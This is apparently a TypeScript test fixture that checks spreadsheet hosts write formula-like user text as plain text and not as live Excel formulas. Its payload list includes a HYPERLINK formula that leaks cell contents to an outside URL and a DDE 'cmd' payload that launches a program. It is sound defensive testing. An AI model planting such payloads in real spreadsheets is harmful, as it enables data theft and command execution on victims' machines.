/**
 * Formula injection: text that Excel would take for a formula (or turn into a number) if it were typed or written
 * naively, as a customer's name, a scenario's name or a note can be. Every host writes it as text: the tests of each
 * host (test/xlsx/formula-text.test.ts, test/memory/formula-text.test.ts, test/office/formula-text.test.ts) put these
 * strings in a result sheet's title, headers and cells, in saved rows and in exported tables, through the host's real
 * write path, and check what was written.
 */
import ExcelJS from 'exceljs';
import type { ResultsPlan, SaveRowsRequest, TableGrid } from '../../src/workbook/port';

/** Text beginning with = + - @ (the classic CSV/Excel injection payloads among them). */
export const FORMULA_LIKE_TEXTS = [
  '=HYPERLINK("https://example.com/?leak="&A1,"Ver detalle")',
  '=1+1',
  '+1',
  '-2',
  '@SUM(A1)',
  '+A1',
  '-A1*2',
  "=cmd|' /C calc'!A0",
] as const;

export const FORMULA_SHEET = 'TT Texto';
export const FORMULA_TABLE = 'ttm_FormulaText';

/** Headers of the result table: formula-like themselves. */
export const FORMULA_HEADERS = ['=Concepto()', '+Monto', '@Nota'];

/**
 * One result sheet whose title, headers and text cells are all formula-like. Its table (titled, so: title in A1,
 * header row 3, data from row 4) holds one row per text: the text, a number, the text again. One real formula cell
 * (a ResultCell formula object) shows the difference.
 */
export function formulaTextPlan(): ResultsPlan {
  return {
    sheets: [
      {
        role: 'test_formula_text',
        name: FORMULA_SHEET,
        freezeHeader: true,
        tables: [
          {
            name: FORMULA_TABLE,
            title: FORMULA_LIKE_TEXTS[0],
            columns: [
              { id: 'concept', header: FORMULA_HEADERS[0], format: 'text', numberFormat: 'General' },
              { id: 'amount', header: FORMULA_HEADERS[1], format: 'mxn', numberFormat: '#,##0.00' },
              { id: 'note', header: FORMULA_HEADERS[2], format: 'text', numberFormat: 'General' },
            ],
            rows: [
              ...FORMULA_LIKE_TEXTS.map((t, i) => [t, i + 1, t]),
              ['Total', { formula: `=SUM(B4:B${3 + FORMULA_LIKE_TEXTS.length})`, result: 36 }, ''],
            ],
            totalRows: [FORMULA_LIKE_TEXTS.length],
          },
        ],
      },
    ],
  };
}

/** 1-based sheet rows of the plan's table: title, header, first data row. */
export const FORMULA_ROWS = { title: 1, header: 3, firstData: 4 };

/** An input table (as exported or saved) whose headers and text cells are formula-like. */
export function formulaTextGrid(): TableGrid {
  return {
    name: 'Notas',
    sheet: 'Notas',
    headerRow: 1,
    firstColumn: 1,
    headers: ['ID', '=Nota', '-Importe'],
    rows: FORMULA_LIKE_TEXTS.map((t, i) => [`N${i + 1}`, t, i + 1]),
  };
}

/**
 * saveRows of formula-like texts under one key: creating the table (a new sheet "Notas", headers at A1) when `table`
 * is null, else replacing that key's rows in it.
 */
export function formulaTextSaveRequest(table: string | null): SaveRowsRequest {
  const grid = formulaTextGrid();
  return {
    table,
    ...(table === null ? { create: { name: grid.name, sheet: grid.sheet, headers: grid.headers } } : {}),
    keyColumn: 0,
    key: 'N1',
    rows: FORMULA_LIKE_TEXTS.map((t, i) => ['N1', t, i + 1]),
  };
}

/** Every text cell of formulaTextPlan's sheet: its 1-based row and column and its text. */
export function planTextCells(): { row: number; column: number; text: string }[] {
  return [
    { row: FORMULA_ROWS.title, column: 1, text: FORMULA_LIKE_TEXTS[0] },
    ...FORMULA_HEADERS.map((text, j) => ({ row: FORMULA_ROWS.header, column: 1 + j, text })),
    ...FORMULA_LIKE_TEXTS.flatMap((text, i) => [
      { row: FORMULA_ROWS.firstData + i, column: 1, text },
      { row: FORMULA_ROWS.firstData + i, column: 3, text },
    ]),
  ];
}

/** The total's cell of formulaTextPlan (the one formula) and its formula, as Excel shows it. */
export const PLAN_FORMULA_CELL = {
  row: FORMULA_ROWS.firstData + FORMULA_LIKE_TEXTS.length,
  column: 2,
  formula: `=SUM(B4:B${3 + FORMULA_LIKE_TEXTS.length})`,
};

/**
 * Cells of a sheet of .xlsx bytes as ExcelJS (the independent reader of the tests) reads them: the value and its
 * type, a formula cell reading as ExcelJS.ValueType.Formula.
 */
export async function xlsxCells(
  bytes: Uint8Array,
  sheet: string,
  cells: readonly { row: number; column: number }[],
): Promise<{ value: unknown; type: ExcelJS.ValueType }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  const ws = wb.getWorksheet(sheet);
  if (!ws) throw new Error(`no sheet "${sheet}" (sheets: ${wb.worksheets.map((w) => w.name).join(', ')})`);
  return cells.map(({ row, column }) => {
    const c = ws.getCell(row, column);
    return { value: c.value, type: c.type };
  });
}

/** What xlsxCells gives for text cells: each text, as a string cell. */
export function asStringCells(texts: readonly string[]): { value: unknown; type: ExcelJS.ValueType }[] {
  return texts.map((value) => ({ value, type: ExcelJS.ValueType.String }));
}
